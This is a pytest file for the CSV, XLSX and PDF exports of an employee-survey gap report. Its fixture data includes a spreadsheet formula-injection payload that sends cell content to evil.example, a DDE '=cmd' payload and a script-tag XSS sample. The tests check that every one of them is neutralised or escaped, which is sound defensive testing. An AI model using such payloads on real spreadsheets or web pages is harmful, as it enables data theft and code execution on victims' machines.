"""CSV, XLSX and PDF exports of a gap report (analytics/report/exports/).

Built from a small report made with the schema's types and constructors: no database.
"""

import copy
import csv
import datetime as dt
import io
import re
import typing
from pathlib import Path

import pytest
from openpyxl import load_workbook
from weasyprint import HTML

from analytics.report import schema
from analytics.report.check import problems
from analytics.report.exports import report_csv, report_pdf, report_xlsx
from analytics.report.exports.columns import KEYS, LABELS, SECTION_LABELS, SECTIONS, SHEETS
from analytics.report.exports.csv import HEADER
from analytics.report.exports.pdf import report_pdf_html
from analytics.report.exports.rows import report_rows
from analytics.report.format import (
    CLASS_EXPLANATIONS,
    CLASS_LABELS,
    SUPPRESSED_NOTE,
    round_effect,
    round_mean,
    round_p,
)
from analytics.report.schema import ClassificationName
from analytics.selectors import ReportScope, report_scope

OC = "open_communication"
CF = "customer_focus"
ENGINEERING, PLATFORM = 7, 8
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
PHONE_LIKE = "+1 555 is my extension, call me"

FIGURES = {
    # stated_vs_lived row column -> report key
    "n_leaders": "n_leaders",
    "n_employees": "n_employees",
    "leader_mean": "leader_mean",
    "employee_mean": "employee_mean",
    "gap": "gap",
    "cliffs_delta": "cliffs_delta",
    "p_value": "p_value",
    "q_value": "q_value",
    "favorable_pct": "employee_favorable_pct",
    "unfavorable_pct": "employee_unfavorable_pct",
    "leader_span": "leader_span",
}


def gap_cell(value: str, segment: str = "all", **figures) -> schema.GapCell:
    """A tested cell: a blind spot of 4 leaders and 31 employees unless `figures` say else."""
    return schema.GapCell(
        **{
            "value": value,
            "segment": segment,
            "n_leaders": 4,
            "n_employees": 31,
            "leader_mean": 4.75,
            "employee_mean": 2.7516,
            "gap": 1.9984,
            "gap_ci": [1.8897, 2.1062],
            "cliffs_delta": 0.98765,
            "effect_size": "large",
            "test": "one_sample_t",
            "employee_favorable_pct": 3.2258,
            "employee_unfavorable_pct": 14.5161,
            "leader_span": 1.0,
            "classification": "blind_spot",
            "severity": "critical",
            "tags": [],
            "p_value": 2.4935657662865295e-67,
            "q_value": 0.012345,
        }
        | figures
    )


def make_snapshot() -> schema.Report:
    waves = ["2026-09", "2026-10"]
    leavers = {"period": "2026-Q3", "waves": waves, "stayer_waves": waves}
    return schema.Report(
        organization="acme",
        organization_name="Acme & <Co>",
        wave="2026-10",
        waves=waves,
        method_version="1.0",
        fingerprint="ab" * 32,
        min_group_size=5,
        departments=[
            schema.Department(id=ENGINEERING, name="Engineering", parent=None),
            schema.Department(id=PLATFORM, name="Platform", parent=ENGINEERING),
        ],
        values=[
            schema.Value(code=OC, name="Open communication"),
            schema.Value(code=CF, name="=cmd|' /C calc'!A0"),
        ],
        responses=schema.Responses(leadership=4, lived=40, onboarding=None, exit=0),
        self_deception_index=schema.SelfDeceptionIndex(
            value=49.3825,
            n_values=2,
            values=[OC, CF],
            definition="100 × the mean, over values with enough data, of max(0, δ).",
            trend=[
                schema.IndexPoint(wave="2026-09", value=None, n_values=0),
                schema.IndexPoint(wave="2026-10", value=49.3825, n_values=2),
            ],
        ),
        stated_vs_lived=[
            gap_cell(OC),
            gap_cell(
                OC,
                f"department:{ENGINEERING}",
                n_employees=7,
                employee_mean=2.8214,
                gap=1.9286,
                gap_ci=None,
                cliffs_delta=1.0,
                test=None,
                employee_favorable_pct=0.0,
                employee_unfavorable_pct=14.2857,
                leader_span=None,
                classification="insufficient_data",
                severity=None,
                tags=["watch"],
                p_value=None,
                q_value=None,
            ),
            schema.suppressed_cell(OC, f"department:{PLATFORM}"),
            gap_cell(
                CF,
                n_employees=30,
                leader_mean=3.25,
                employee_mean=4.1307,
                gap=-0.8807,
                gap_ci=[-0.9647, -0.792],
                cliffs_delta=-0.778,
                employee_favorable_pct=71.2,
                employee_unfavorable_pct=0.0,
                classification="hidden_strength",
                severity=None,
                p_value=0.00031,
                q_value=0.045678,
            ),
            schema.suppressed_cell(CF, f"department:{PLATFORM}"),
        ],
        calibration=[
            schema.Calibration(
                value=OC,
                n_leaders=4,
                n_employees=31,
                mean_prediction=80.0,
                actual_favorable_pct=3.2258,
                error=76.7742,
                suppressed=False,
            ),
            schema.calibration_without_figures(CF, 4, suppressed=True),
        ],
        calibration_mae=76.7742,
        profile_agreement=schema.ProfileAgreement(
            values=[OC, CF], n_values=2, rho=None, p_value=None, q_value=None
        ),
        exit_pool={"period": "2026-Q3", "waves": waves},
        leavers_vs_stayers=[
            schema.LeaversCell(
                value=OC,
                segment="all",
                **leavers,
                n_exit=12,
                n_lived=71,
                exit_mean=2.5972,
                lived_mean=2.7616,
                cliffs_delta=-0.15412,
                test="mann_whitney_asymptotic",
                leaver_signal=False,
                suppressed=False,
                p_value=0.35896,
                q_value=0.48815,
            ),
            schema.suppressed_leavers(OC, f"department:{ENGINEERING}", **leavers),
        ],
        promised_vs_found=[
            schema.PromisedCell(
                value=OC,
                segment="all",
                n=10,
                mean_expected=4.7,
                mean_found=2.9,
                mean_difference=1.8,
                rank_biserial=1.0,
                share_worse=0.9,
                share_equal=0.1,
                share_better=0.0,
                credibility_gap=True,
                suppressed=False,
                p_value=0.00390625,
                q_value=0.0081631,
            ),
            schema.promised_without_figures(CF, suppressed=True),
        ],
        trends=[
            schema.Trend(
                value=OC,
                waves=[
                    schema.hidden_trend_point("2026-09"),
                    schema.TrendPoint(wave="2026-10", n=31, mean=2.7516),
                ],
                n_waves=1,
                tau=None,
                slope=None,
                slope_ci=None,
                declining=None,
                p_value=None,
                q_value=None,
                change=schema.hidden_change("2026-09", "2026-10"),
            ),
        ],
        enps=schema.Enps(
            question="enps",
            n=40,
            promoters=10,
            passives=16,
            detractors=14,
            score=-11.290322580645162,
            ci=[-24.29552237456731, 2.248278280079119],
            suppressed=False,
        ),
        reliability=[
            schema.Reliability(
                value=OC,
                n_items=4,
                n=30,
                alpha=0.65237,
                alpha_ci=[0.52689, 0.74467],
                warning="low",
                note=None,
                suppressed=False,
            ),
            schema.reliability_without_figures(CF, 3, suppressed=True),
        ],
        drivers=[
            schema.Driver(
                value=OC,
                outcome="enps",
                question="enps",
                n=39,
                rho=0.53789,
                suppressed=False,
                p_value=0.0004,
                q_value=0.00123456,
            ),
        ],
        priorities=[
            schema.Priority(
                value=OC,
                priority=1.07759,
                basis="gap",
                driver_rho=0.53789,
                gap=1.9984,
                classification="blind_spot",
                rank=1,
            ),
        ],
        comments=schema.Comments(
            shown=True,
            min_group_size=10,
            n_respondents=40,
            items=[
                schema.Comment(question="comment", text=INJECTION),
                schema.Comment(question="comment", text=PHONE_LIKE),
                schema.Comment(
                    question="comment", text="Decisions come <script>alert(1)</script> late."
                ),
            ],
        ),
        multiple_comparisons=schema.MultipleComparisons(method="benjamini-hochberg", n_tests=8),
        withheld_for_differencing=0,
    )


def test_the_hand_made_report_follows_the_schema():
    assert problems(make_snapshot()) == []


@pytest.fixture
def snapshot() -> dict:
    return make_snapshot()


def _rows(rows: list[dict], section: str, **match) -> list[dict]:
    return [
        r for r in rows if r["section"] == section and all(r.get(k) == v for k, v in match.items())
    ]


def _one(rows: list[dict], section: str, **match) -> dict:
    found = _rows(rows, section, **match)
    assert len(found) == 1, (section, match, found)
    return found[0]


def _csv_rows(data: dict) -> tuple[list[str], list[dict]]:
    raw = report_csv(data)
    assert raw.startswith(b"\xef\xbb\xbf")
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    header, *body = list(reader)
    return header, [dict(zip(header, line, strict=True)) for line in body]


def _figure(value) -> float | str:
    """A cell's content for comparing exports: numbers as numbers, text as text."""
    if isinstance(value, int | float):
        return float(value)
    try:
        return float(value)
    except ValueError:
        return value


# --- Rounding (the rule itself: test_format.py) ---------------------------------------------


def test_rows_are_rounded_as_on_the_pages(snapshot):
    rows = report_rows(snapshot)
    oc = _one(rows, "stated_vs_lived", value=OC, segment="all")
    assert oc["employee_mean"] == 2.8
    assert oc["leader_mean"] == 4.8
    assert oc["gap"] == 2.0
    assert (oc["gap_ci_low"], oc["gap_ci_high"]) == (1.9, 2.1)
    assert oc["favorable_pct"] == 3
    assert oc["cliffs_delta"] == 0.99
    assert oc["p_value"] == "<0.001"
    assert oc["q_value"] == 0.0123
    assert oc["classification"] == "blind_spot"
    assert oc["severity"] == "critical"
    cf = _one(rows, "stated_vs_lived", value=CF, segment="all")
    assert cf["gap"] == -0.9
    assert (cf["gap_ci_low"], cf["gap_ci_high"]) == (-1.0, -0.8)
    assert cf["cliffs_delta"] == -0.78
    assert cf["q_value"] == 0.0457

    assert _one(rows, "self_deception_index", wave="2026-10")["index"] == 49
    assert _one(rows, "calibration", value=OC)["error_pp"] == 77
    enps = _one(rows, "enps")
    assert (enps["enps"], enps["enps_ci_low"], enps["enps_ci_high"]) == (-11, -24, 2)
    alpha = _one(rows, "reliability", value=OC)
    assert (alpha["alpha"], alpha["alpha_ci_low"], alpha["alpha_ci_high"]) == (0.65, 0.53, 0.74)
    promised = _one(rows, "promised_vs_found", value=OC)
    assert (promised["share_worse_pct"], promised["share_equal_pct"]) == (90, 10)
    assert promised["p_value"] == 0.00391
    assert promised["credibility_gap"] == "yes"
    assert _one(rows, "priorities", value=OC)["priority"] == 1.08


def test_every_row_has_its_sections_columns(snapshot):
    rows = report_rows(snapshot)
    for row in rows:
        assert list(row) == ["section", *SECTIONS[row["section"]]]
    assert {r["section"] for r in rows} == set(SECTIONS)


# --- Suppression: rows stay, figures never ---------------------------------------------------


def test_a_suppressed_cell_keeps_its_row_without_any_figure(snapshot):
    rows = report_rows(snapshot)
    row = _one(rows, "stated_vs_lived", value=OC, segment="department:Platform")  # named
    assert row["classification"] == "suppressed"
    assert row["note"] == SUPPRESSED_NOTE == "fewer than k responses"
    assert row["value_name"] == "Open communication"
    identity = {"section", "value", "value_name", "segment", "classification", "note"}
    assert all(v is None for k, v in row.items() if k not in identity)


def test_suppressed_entries_of_every_view_carry_no_figure(snapshot):
    rows = report_rows(snapshot)
    leavers = _one(rows, "leavers_vs_stayers", segment="department:Engineering")
    assert leavers["note"] == SUPPRESSED_NOTE
    assert leavers["n_exit"] is None
    assert leavers["exit_mean"] is None
    assert leavers["leaver_signal"] is None
    promised = _one(rows, "promised_vs_found", value=CF)
    assert promised["note"] == SUPPRESSED_NOTE
    assert promised["credibility_gap"] is None
    assert promised["share_worse_pct"] is None
    # What the schema keeps for a suppressed entry: items count, leadership count.
    reliability = _one(rows, "reliability", value=CF)
    assert (reliability["n_items"], reliability["alpha"], reliability["n"]) == (3, None, None)
    calibration = _one(rows, "calibration", value=CF)
    assert calibration["n_leaders"] == 4
    assert calibration["actual_favorable_pct"] is None
    assert calibration["note"] == SUPPRESSED_NOTE
    round_ = _one(rows, "trends", value=OC, wave="2026-09")
    assert (round_["n"], round_["mean"], round_["note"]) == (None, None, SUPPRESSED_NOTE)
    change = _one(rows, "wave_to_wave", value=OC)
    assert change["change"] is None
    assert change["note"] == SUPPRESSED_NOTE
    assert _one(rows, "responses", group="onboarding")["note"] == SUPPRESSED_NOTE


def test_rows_add_no_figure_that_the_snapshot_lacks(snapshot):
    rows = report_rows(snapshot)
    named = {"all": "all", f"department:{ENGINEERING}": "department:Engineering"}
    named[f"department:{PLATFORM}"] = "department:Platform"
    for cell in snapshot["stated_vs_lived"]:
        row = _one(rows, "stated_vs_lived", value=cell["value"], segment=named[cell["segment"]])
        for column, key in FIGURES.items():
            assert (row[column] is None) == (cell[key] is None), (cell["segment"], column)
        assert (row["gap_ci_low"] is None) == (cell["gap_ci"] is None)
    # The engine writes null figures for a suppressed cell; even if one slipped through,
    # the export would not print it.
    leaky = copy.deepcopy(snapshot)
    leaky["stated_vs_lived"][2]["employee_mean"] = 2.5
    row = _one(report_rows(leaky), "stated_vs_lived", value=OC, segment="department:Platform")
    assert row["employee_mean"] is None


def test_comments_only_when_shown(snapshot):
    assert len(_rows(report_rows(snapshot), "comments")) == 3
    hidden = copy.deepcopy(snapshot)
    hidden["comments"]["shown"] = False  # items left in on purpose: still not exported
    assert _rows(report_rows(hidden), "comments") == []
    assert "Decisions come" not in report_csv(hidden).decode("utf-8-sig")


def test_a_scoped_copy_exports_only_its_segments(snapshot):
    scope = ReportScope(department_ids=frozenset({ENGINEERING}), names=("Engineering",))
    scoped = report_scope(data=snapshot, scope=scope)
    rows = report_rows(scoped)
    segments = {r["segment"] for r in rows if r["section"] == "stated_vs_lived"}
    assert segments == {"all", "department:Engineering"}
    assert "department:Platform" not in report_csv(scoped).decode("utf-8-sig")
    assert _one(rows, "report")["scope"] == "departments: Engineering"


# --- CSV: one row per figure ---------------------------------------------------------------


def _figures(body: list[dict], **match) -> dict[str, dict]:
    """The rows of one entry, by figure code."""
    found = [r for r in body if all(r[k] == v for k, v in match.items())]
    by_figure = {r["figure"]: r for r in found}
    assert len(by_figure) == len(found), match
    return by_figure


def test_csv_is_long_with_one_documented_header(snapshot):
    header, body = _csv_rows(snapshot)
    assert header == HEADER
    docs = (Path(__file__).parents[2] / "docs" / "exports.md").read_text()
    for column in HEADER:
        assert f"| `{column}` |" in docs, column
    for row in body:
        assert row["round"] == "2026-10"
        assert row["figure_label"] == LABELS[row["figure"]]
        assert row["view_label"] == SECTION_LABELS[row["view"]]
        assert f"| `{row['figure']}` | {row['figure_label']} |" in docs, row["figure"]
        assert f"**`{row['view']}`**" in docs
        assert row["figure"] not in KEYS
        assert row["number"] == "" or row["text"] in ("", "<0.001")


def test_csv_rows_parse_back_to_the_snapshots_figures(snapshot):
    _, body = _csv_rows(snapshot)
    named = {"all": "all", f"department:{ENGINEERING}": "department:Engineering"}
    rounding = {"leader_mean": round_mean, "employee_mean": round_mean, "gap": round_mean}
    rounding |= {"q_value": round_p, "p_value": round_p, "cliffs_delta": round_effect}
    tested = 0
    for cell in snapshot["stated_vs_lived"]:
        if cell["classification"] == "suppressed":
            continue
        rows = _figures(
            body, view="stated_vs_lived", value=cell["value"], segment=named[cell["segment"]]
        )
        for figure, rounder in rounding.items():
            expected = rounder(cell[figure])
            if expected is None:
                assert figure not in rows
            elif expected == "<0.001":
                assert (rows[figure]["number"], rows[figure]["text"]) == ("0.001", "<0.001")
            else:
                assert float(rows[figure]["number"]) == expected, (cell["segment"], figure)
                tested += 1
        if cell["gap_ci"]:
            low, high = (round_mean(x) for x in cell["gap_ci"])
            assert float(rows["gap_ci_low"]["number"]) == low
            assert float(rows["gap_ci_high"]["number"]) == high
        assert rows["classification"]["text"] == cell["classification"]
        assert int(rows["n_employees"]["number"]) == cell["n_employees"]
    assert tested == 5 + 4 + 5  # OC company, OC Engineering (untested), CF company
    cf = _figures(body, view="stated_vs_lived", value=CF, segment="all")
    assert cf["gap"]["number"] == "-0.9"  # a plain number: dot, minus, no formatting
    assert cf["gap"]["segment_name"] == "Whole company"
    assert cf["q_value"]["number"] == "0.0457"
    assert _figures(body, view="enps")["enps"]["number"] == "-11"
    index = _figures(body, view="self_deception_index", detail="2026-10")["index"]
    assert index["number"] == "49"


def test_withheld_figures_never_carry_a_number(snapshot):
    _, body = _csv_rows(snapshot)
    withheld = [r for r in body if r["text"] == "withheld"]
    assert withheld
    assert all(r["number"] == "" for r in withheld)
    platform = _figures(body, view="stated_vs_lived", value=OC, segment="department:Platform")
    assert platform["employee_mean"]["text"] == "withheld"
    assert platform["n_employees"]["text"] == "withheld"
    assert platform["gap"]["text"] == "withheld"
    assert platform["note"]["text"] == SUPPRESSED_NOTE
    assert platform["gap"]["segment_name"] == "Department: Platform"
    numbers = [r for r in body if r["segment"] == "department:Platform" and r["number"]]
    assert numbers == []
    # Even a figure the engine should not have written stays out.
    leaky = copy.deepcopy(snapshot)
    leaky["stated_vs_lived"][2]["employee_mean"] = 2.5
    _, body = _csv_rows(leaky)
    assert not [r for r in body if r["segment"] == "department:Platform" and r["number"]]
    assert _figures(body, view="responses", detail="onboarding")["n"]["text"] == "withheld"


def test_a_scoped_leaders_csv_holds_only_their_segments(snapshot):
    scope = ReportScope(department_ids=frozenset({ENGINEERING}), names=("Engineering",))
    _, body = _csv_rows(report_scope(data=snapshot, scope=scope))
    assert {r["segment"] for r in body if r["view"] == "stated_vs_lived"} == {
        "all",
        "department:Engineering",
    }
    assert not [r for r in body if "Platform" in "".join(r.values())]


def test_csv_comments_are_all_there_in_order_without_segments(snapshot):
    _, body = _csv_rows(snapshot)
    comments = [r for r in body if r["view"] == "comments"]
    assert [r["text"] for r in comments] == [
        "'" + INJECTION,
        "'" + PHONE_LIKE,
        "Decisions come <script>alert(1)</script> late.",
    ]
    assert all(r["segment"] == r["value"] == "" and r["detail"] == "comment" for r in comments)
    names = {r["value_name"] for r in body if r["view"] == "stated_vs_lived"}
    assert names == {"Open communication", "'=cmd|' /C calc'!A0"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(snapshot, start):
    snapshot["comments"]["items"] = [{"question": "comment", "text": f"{start}1+2"}]
    _, body = _csv_rows(snapshot)
    assert [r["text"] for r in body if r["view"] == "comments"] == [f"'{start}1+2"]
    sheet = load_workbook(io.BytesIO(report_xlsx(snapshot)))["Comments"]
    # (XML reads a stored carriage return back as a line feed.)
    assert sheet["B2"].value.replace("\n", "\r") == f"'{start}1+2".replace("\n", "\r")
    assert sheet["B2"].data_type == "s"


# --- XLSX ------------------------------------------------------------------------------------


def _table(sheet, title: str | None = None) -> list[dict]:
    """The rows of one table of a sheet, as {header: cell}: the first, or the one titled."""
    lines = list(sheet.iter_rows())
    i = 0 if title is None else 1 + next(n for n, ln in enumerate(lines) if ln[0].value == title)
    header = [c.value for c in lines[i] if c.value is not None]
    rows = []
    for line in lines[i + 1 :]:
        if all(c.value is None for c in line):
            break
        rows.append(dict(zip(header, line[: len(header)], strict=True)))
    return rows


def test_xlsx_opens_on_a_summary_then_few_named_sheets(snapshot):
    book = load_workbook(io.BytesIO(report_xlsx(snapshot)))
    assert book.sheetnames == ["Summary", *SHEETS]
    summary = [[c for c in line if c is not None] for line in book["Summary"].values]
    assert ["Organization", "Acme & <Co>"] in summary
    assert ["Round", "2026-10"] in summary
    assert ["Method version", "1.0"] in summary
    assert ["Minimum group size (k)", 5] in summary
    assert ["Self-deception index", 49] in summary
    lines = [line[0] for line in summary if line]
    assert "Key findings" in lines
    assert (
        "Blind spots (leaders rate the value clearly above what employees experience): "
        "Open communication (critical)"
    ) in lines
    at = summary.index(["Values, whole company"])
    assert summary[at + 1][:4] == [
        "Value",
        "Leaders' mean",
        "Employees' mean",
        "Gap (leaders − employees)",
    ]
    assert summary[at + 2][:4] == ["Open communication", 4.8, 2.8, 2.0]
    assert summary[at + 2][-1] == "Blind spot (critical)"


def test_xlsx_headers_are_human_bold_and_frozen(snapshot):
    book = load_workbook(io.BytesIO(report_xlsx(snapshot)))
    snake = re.compile(r"^[a-z]+(_[a-z]+)+$")
    for name, sections in SHEETS.items():
        sheet = book[name]
        for section in sections:
            lines = [[c for c in line if c is not None] for line in sheet.values]
            at = lines.index([SECTION_LABELS[section]]) + 1 if len(sections) > 1 else 0
            assert lines[at] == [LABELS[column] for column in SECTIONS[section]]
            for text in lines[at]:
                assert not snake.match(text), (name, text)
                assert text[0].isupper() or text[:2] in ("p-", "q-", "eN"), (name, text)
        assert sheet.freeze_panes == ("A2" if len(sections) == 1 else "A3")
        first = 1 if len(sections) == 1 else 2
        assert all(c.font.bold for c in sheet[first] if c.value is not None)
    widths = book["Comments"].column_dimensions
    assert widths["B"].width > widths["A"].width


def test_xlsx_stores_numbers_as_numbers_and_text_as_strings(snapshot):
    book = load_workbook(io.BytesIO(report_xlsx(snapshot)))
    comments = book["Comments"]
    assert comments["B2"].value == "'" + INJECTION
    assert comments["B2"].data_type == "s"
    assert comments["B3"].value == "'" + PHONE_LIKE

    rows = _table(book["Values by segment"])
    cf = next(
        r for r in rows if r["Value (code)"].value == CF and r["Segment"].value == "Whole company"
    )
    assert (cf["Gap (leaders − employees)"].value, cf["Gap (leaders − employees)"].data_type) == (
        -0.9,
        "n",
    )
    assert cf["Value"].value == "'=cmd|' /C calc'!A0"
    assert cf["Value"].data_type == "s"
    oc = next(
        r for r in rows if r["Value (code)"].value == OC and r["Segment"].value == "Whole company"
    )
    for header in (
        "Leaders' mean",
        "Employees' mean",
        "p-value",
        "q-value (corrected for multiple tests)",
    ):
        assert oc[header].data_type == "n", header
    assert oc["Employees (n)"].value == 31
    assert oc["Employees' mean"].value == 2.8
    assert oc["Employees' mean"].number_format == "0.0"
    assert oc["Effect size (Cliff's delta)"].number_format == "0.00"
    assert oc["q-value (corrected for multiple tests)"].value == 0.0123
    assert oc["p-value"].value == 0.001  # below 0.001: the bound, shown as "<0.001"
    assert oc["p-value"].number_format == '"<"0.000'
    assert oc["Classification"].value == "Blind spot (critical)"
    suppressed = next(r for r in rows if r["Segment"].value == "Department: Platform")
    assert suppressed["Classification"].value == "Fewer than k responses"
    assert suppressed["Note"].value == "fewer than k responses"
    assert suppressed["Employees' mean"].value is None
    assert suppressed["Gap (leaders − employees)"].value is None
    drivers = _table(book["Drivers"], SECTION_LABELS["drivers"])
    assert drivers[0]["q-value (corrected for multiple tests)"].data_type == "n"
    # No cell anywhere is a formula.
    for ws in book.worksheets:
        for line in ws.iter_rows():
            assert all(c.data_type != "f" for c in line)


def test_csv_and_xlsx_hold_the_same_figures(snapshot):
    _, body = _csv_rows(snapshot)
    from_csv = {
        (r["value"], r["segment_name"], r["figure_label"], float(r["number"]))
        for r in body
        if r["view"] == "stated_vs_lived" and r["number"]
    }
    book = load_workbook(io.BytesIO(report_xlsx(snapshot)))
    from_xlsx = set()
    for row in _table(book["Values by segment"]):
        for header, c in row.items():
            if isinstance(c.value, int | float):
                from_xlsx.add((row["Value (code)"].value, row["Segment"].value, header, c.value))
    assert from_csv == from_xlsx
    assert (CF, "Whole company", "Gap (leaders − employees)", -0.9) in from_csv


def test_a_scoped_leaders_xlsx_holds_only_their_segments(snapshot):
    scope = ReportScope(department_ids=frozenset({ENGINEERING}), names=("Engineering",))
    book = load_workbook(io.BytesIO(report_xlsx(report_scope(data=snapshot, scope=scope))))
    segments = {r["Segment"].value for r in _table(book["Values by segment"])}
    assert segments == {"Whole company", "Department: Engineering"}
    for ws in book.worksheets:
        for line in ws.values:
            assert not any("Platform" in str(v) for v in line if v is not None)


# --- Labels ----------------------------------------------------------------------------------


def test_every_classification_has_a_label_and_an_explanation():
    classes = set(typing.get_args(ClassificationName))  # every class the schema declares
    assert set(CLASS_LABELS) == set(CLASS_EXPLANATIONS) == classes
    assert CLASS_LABELS["blind_spot"] == "Blind spot"
    assert CLASS_LABELS["insufficient_data"] == "Not enough data"
    assert CLASS_LABELS["suppressed"] == "Fewer than k responses"
    assert CLASS_EXPLANATIONS["blind_spot"] == (
        "Leaders rate this value clearly higher than employees experience it "
        "(a significant, at least medium-sized gap)."
    )
    assert all(text.endswith(".") for text in CLASS_EXPLANATIONS.values())


# --- PDF -------------------------------------------------------------------------------------


def _html(data: dict, **kwargs) -> str:
    return report_pdf_html(data, generated_on=dt.date(2026, 10, 14), **kwargs)


def test_the_pdf_html_reads_as_a_report(snapshot):
    html = _html(snapshot, generated_for="Leo Leader")
    text = re.sub(r"\s+", " ", html)
    assert "Acme &amp; &lt;Co&gt;" in text
    assert 'Survey round</dt><dd class="round">2026-10' in text
    assert "Method version</dt><dd>1.0" in text
    assert "Minimum group size (k)</dt><dd>5" in text
    assert "2026-10-14" in text
    assert "Prepared for</dt><dd>Leo Leader" in text
    assert "Confidential – anonymous survey results; groups smaller than k are not shown" in text
    # The self-deception index with its definition.
    assert '<span class="big">49</span>' in text
    assert "100 × the mean, over values with enough data, of max(0, δ)." in text
    # Stated vs lived, in words, with n and interval.
    assert "Blind spot (critical)" in text
    assert str(CLASS_EXPLANATIONS["blind_spot"]) in text
    assert "Hidden strength" in text
    assert "Not enough data · watch" in text
    assert "2.8 (n 31)" in text
    assert "+1.9 to +2.1" in text
    assert "\u22121.0 to \u22120.8" in text
    # Calibration, promised vs found, leavers, trends, eNPS, reliability, priorities.
    assert "predicted that 80% of employees would answer favorably; 3% did" in text
    assert "Credibility gap:" in text
    assert "90% found it worse" in text
    assert "Leavers vs stayers" in text
    assert "2026-10: <strong>2.8</strong>" in text
    assert '<span class="big">\u221211</span>' in text
    assert "95% interval \u221224 to +2" in text
    assert "Read with care:</span> Open communication" in text
    assert "Priorities: what to look at first" in text
    # The charts go in as SVG, drawn from the report; comments are escaped text.
    assert "Stated vs lived: leaders’ and employees’ ratings per value</title>" in text
    assert "Calibration: leaders’ predicted vs actual % favourable, per value</title>" in text
    assert "Self-deception index by round</title>" in text
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "<script>" not in text


def test_suppressed_cells_print_fewer_than_k_responses(snapshot):
    text = re.sub(r"\s+", " ", _html(snapshot))
    assert re.search(
        r"<tr><td>Platform</td><td class=\"suppressed\" colspan=\"8\">fewer than k responses</td>",
        text,
    )
    assert 'Department: Engineering</td><td class="suppressed"' in text
    assert "Employees' actual share: fewer than k responses" in text
    assert "2026-09: <em>fewer than k responses</em>" in text


def test_the_pdf_leaves_out_hidden_comments(snapshot):
    snapshot["comments"] = schema.hidden_comments(10)
    text = re.sub(r"\s+", " ", _html(snapshot))
    assert "Comments are shown only when at least 10 people answered" in text
    assert "HYPERLINK" not in text


def test_the_pdf_is_an_a4_document_with_page_numbers(snapshot):
    pdf = report_pdf(snapshot, generated_for="Leo Leader")
    assert pdf.startswith(b"%PDF")
    assert len(pdf) > 20_000

    from django.conf import settings

    document = HTML(string=_html(snapshot), base_url=str(settings.BASE_DIR)).render()
    assert len(document.pages) >= 3
    first = document.pages[0]
    assert round(first.width * 25.4 / 96) == 210  # A4, in CSS pixels
    assert round(first.height * 25.4 / 96) == 297

    def texts(box):
        if getattr(box, "text", None):
            yield box.text
        for child in getattr(box, "children", None) or []:
            yield from texts(child)

    last = " ".join(texts(document.pages[-1]._page_box))
    assert f"Page {len(document.pages)} of {len(document.pages)}" in last
    assert "groups smaller than k are not shown" in last
